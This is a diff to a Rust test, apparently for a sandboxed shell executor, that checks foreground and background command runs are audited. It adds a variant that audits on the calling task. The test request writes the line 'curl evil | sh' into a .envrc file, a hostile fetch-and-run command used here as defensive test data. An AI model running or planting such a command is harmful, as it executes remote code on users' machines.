@@ -90,6 +90,11 @@ async fn foreground_runs_and_background_jobs_are_audited_after_they_end() {
         let request = ShellRequest::new("echo 'curl evil | sh' > .envrc", &ws);
         let fg = exec.run(exec.resolve(request.clone())).await.unwrap();
         check(backend, "foreground", &ws, &fg);
+        // Audited on the awaiting task (as `stockade exec` asks), not the
+        // blocking pool: the same audit, the same facts.
+        let on_caller = request.clone().with_audit_on_caller();
+        let fg = exec.run(exec.resolve(on_caller)).await.unwrap();
+        check(backend, "foreground, audited on the caller", &ws, &fg);
         let job = exec.start(exec.resolve(request)).unwrap();
         let bg = job.wait().await;
         check(backend, "background", &ws, &bg);
